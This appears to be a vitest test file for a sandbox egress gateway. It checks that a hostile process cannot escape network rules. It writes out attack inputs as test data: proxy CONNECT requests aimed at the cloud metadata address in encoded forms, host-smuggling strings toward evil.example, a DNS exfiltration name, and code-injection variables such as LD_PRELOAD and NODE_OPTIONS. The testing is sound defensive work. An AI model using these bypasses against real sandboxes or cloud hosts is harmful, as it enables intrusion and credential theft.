import { once } from 'node:events';
import { readdirSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAddress } from '../../../src/egress/address.ts';
import type { AuditLog } from '../../../src/egress/audit.ts';
import type { AuditRecord } from '../../../src/egress/audit-record.ts';
import { createEgressGateway, type EgressGateway } from '../../../src/egress/gateway.ts';
import { silentLogger } from '../../../src/log.ts';
import { networkRule } from '../../../src/manifest/host-pattern.ts';
import { connectionsMax } from '../../../src/runner/netns-listeners.ts';
import type { ProcessNotice, Runner } from '../../../src/runner/runner.ts';
import { createSubprocessRunner } from '../../../src/runner/subprocess.ts';
import type { SandboxPolicy } from '../../../src/sandbox/policy.ts';
import { type Hostile, quietAttacks, setTraps, type Traps } from '../attacks.ts';
import { hostileFolder, startHostile } from './hostile-folder.ts';

const folder = hostileFolder();
const records: AuditRecord[] = [];
const audit: AuditLog = { append: async (record) => void records.push(record), head: () => '', close: async () => {} };
/** As the outside would answer: a name that was allowed and then pointed at the metadata service, and one of an honest host. */
const answers: Record<string, string> = {
  'rebound.example': '169.254.169.254',
  'inside.example': '127.0.0.1',
  'x.wild.example': '10.0.0.1',
};

let gateway: EgressGateway;
let traps: Traps;
let allowed: Server;
let port = 0;

beforeAll(async () => {
  traps = await setTraps();
  allowed = createServer((socket) => socket.end('hello')).listen(0, '127.0.0.1');
  await once(allowed, 'listening');
  ({ port } = allowed.address() as AddressInfo);
  const resolve = async (name: string) => [parseAddress(answers[name] ?? '192.0.2.1')!];
  gateway = createEgressGateway({ audit, log: silentLogger, resolve, ownAddresses: () => new Set(traps.addresses) });
});

afterAll(async () => {
  await gateway.close();
  allowed.close();
  await traps[Symbol.asyncDispose]();
  folder[Symbol.dispose]();
});

describe.each(['perl', 'node'] as const)('a hostile connector with rules, its listeners made by %s', (helper) => {
  let runner: Runner;
  let hostile: Hostile;
  const notices: ProcessNotice[] = [];
  const changes = (): Partial<SandboxPolicy> => ({
    network: {
      type: 'rules',
      rules: [`127.0.0.1:${port}`, 'rebound.example:443', 'inside.example:443', '*.wild.example:443', '203.0.113.0/24:8080'].map(
        networkRule,
      ),
    },
    // Each would run code of the connector in the helper, if it got there.
    environment: {
      PERL5OPT: '-MEvil',
      PERL5LIB: '/app',
      NODE_OPTIONS: '--require=/app/evil.cjs',
      LD_PRELOAD: '/app/evil.so',
      BASH_ENV: '/app/evil.sh',
    },
  });

  beforeAll(async () => {
    writeFileSync(join(folder.path, 'Evil.pm'), 'open(my $f, ">", "/tmp/evil"); 1;\n');
    writeFileSync(join(folder.path, 'evil.cjs'), 'require("node:fs").writeFileSync("/tmp/evil", "")\n');
    writeFileSync(join(folder.path, 'evil.sh'), ': >/tmp/evil\n');
    runner = createSubprocessRunner({ egress: gateway, helper });
    hostile = await startHostile({ runner, folder: folder.path, changes: changes(), notices });
  });
  afterAll(async () => {
    await runner.close();
  });

  const denials = (from: number) => records.slice(from).filter((record) => record.type === 'decision' && record.verdict === 'deny');

  it('reaches what its rules allow, with a client that knows no proxy', async () => {
    expect(await hostile.attack('network', { targets: [['127.0.0.1', port]] })).toMatchObject([{ outcome: 'succeeded' }]);
    expect(records).toContainEqual(expect.objectContaining({ type: 'decision', verdict: 'allow', host: '127.0.0.1', port }));
  });

  it('runs none of its code in the helper (attack 34)', async () => {
    expect(await hostile.attack('reads', { paths: ['/tmp/evil'] })).toMatchObject([{ outcome: 'refused', detail: 'ENOENT' }]);
  });

  it('cannot use another port of an allowed host (attack 4)', async () => {
    const targets = [
      ['127.0.0.1', traps.port],
      ['rebound.example', 80],
    ];
    expect(await hostile.attack('network', { targets })).toMatchObject([{ outcome: 'refused' }, { outcome: 'refused' }]);
  });

  it.each([
    ['6', 'CONNECT rebound.example:443 HTTP/1.1\r\nHost: rebound.example:443\r\n\r\n'],
    ['6', 'CONNECT inside.example:443 HTTP/1.1\r\nHost: inside.example:443\r\n\r\n'],
    ['7', 'CONNECT x.wild.example:443 HTTP/1.1\r\nHost: x.wild.example:443\r\n\r\n'],
    ['9', 'CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x\r\n\r\n'],
    ['9', 'CONNECT 2852039166:80 HTTP/1.1\r\nHost: x\r\n\r\n'],
    ['9', 'CONNECT 0xa9fea9fe:80 HTTP/1.1\r\nHost: x\r\n\r\n'],
    ['10', 'CONNECT [::ffff:a9fe:a9fe]:80 HTTP/1.1\r\nHost: x\r\n\r\n'],
    ['10', 'CONNECT [64:ff9b::a9fe:a9fe]:443 HTTP/1.1\r\nHost: x\r\n\r\n'],
    ['12', 'CONNECT wild.example.evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n'],
    ['12', 'CONNECT evil-wild.example:443 HTTP/1.1\r\nHost: x\r\n\r\n'],
    ['14', 'CONNECT rebound.example:443@evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n'],
    ['15', 'GET http://evil.example/ HTTP/1.1\r\nHost: inside.example\r\n\r\n'],
    ['16', 'GET / HTTP/1.1\r\nHost: inside.example\r\n\r\n'],
  ])('is refused by the proxy, and the refusal is recorded (attack %s: %j)', async (_number, request) => {
    const before = records.length;
    const [result] = await hostile.attack('proxy', { port: 3128, requests: [request] });
    expect(result).toMatchObject({ outcome: 'refused', detail: expect.stringMatching(/^(EACCES|.*40\d)/) });
    await expect.poll(() => denials(before).length).toBeGreaterThan(0);
  });

  it('learns nothing from names that are not in its rules, and the question is recorded (attack 27)', async () => {
    const before = records.length;
    expect(await hostile.attack('names', { names: [`secret-${helper}.exfil.example`] })).toMatchObject([{ outcome: 'refused' }]);
    await expect
      .poll(() => denials(before))
      .toContainEqual(expect.objectContaining({ host: `secret-${helper}.exfil.example`, verdict: 'deny' }));
    expect(notices).toContainEqual({ code: 'egress_denied', message: expect.stringContaining(`secret-${helper}.exfil.example`) });
  });

  it('cannot take the descriptors of the proxy by a flood of connections (attack 28)', async () => {
    const descriptors = () => readdirSync('/proc/self/fd').length;
    const before = descriptors();
    let peak = 0;
    const timer = setInterval(() => {
      peak = Math.max(peak, descriptors());
    }, 20);
    const [result] = await hostile.attack('flood', { host: '127.0.0.1', port: 3128, count: 200, hold: 0.5 });
    clearInterval(timer);
    expect(result?.outcome).toBe('refused');
    expect(peak - before).toBeLessThanOrEqual(connectionsMax + 20);
    await expect.poll(descriptors, { timeout: 10_000 }).toBeLessThanOrEqual(before + 5);
  });

  it.runIf(helper === 'perl')(
    'reaches a rule’s address range by dialling it, and is judged by the gateway (the route is local)',
    async () => {
      const before = records.length;
      await hostile.attack('network', { targets: [['203.0.113.7', 8080]] });
      await expect
        .poll(() => records.slice(before))
        .toContainEqual(expect.objectContaining({ type: 'decision', host: '203.0.113.7', port: 8080 }));
    },
  );

  it('is confined in everything else as without network', async () => {
    for (const { name, args, languages, what } of quietAttacks(traps)) {
      if (!languages.includes('python')) continue;
      const results = await hostile.attack(name, args);
      expect([what, results.filter(({ outcome }) => outcome !== 'refused')]).toEqual([what, []]);
    }
    expect(traps.hits()).toBe(0);
  });

  it('leaves no listener, connection or namespace behind when it ends', async () => {
    const sockets = () => readdirSync('/proc/self/fd').length;
    hostile.process.kill();
    await hostile.process.exited;
    const before = sockets();
    const other = await startHostile({ runner, folder: folder.path, changes: changes() });
    expect(sockets()).toBeGreaterThan(before);
    other.process.kill();
    await other.process.exited;
    await expect.poll(sockets, { timeout: 10_000 }).toBeLessThanOrEqual(before);
  });
});
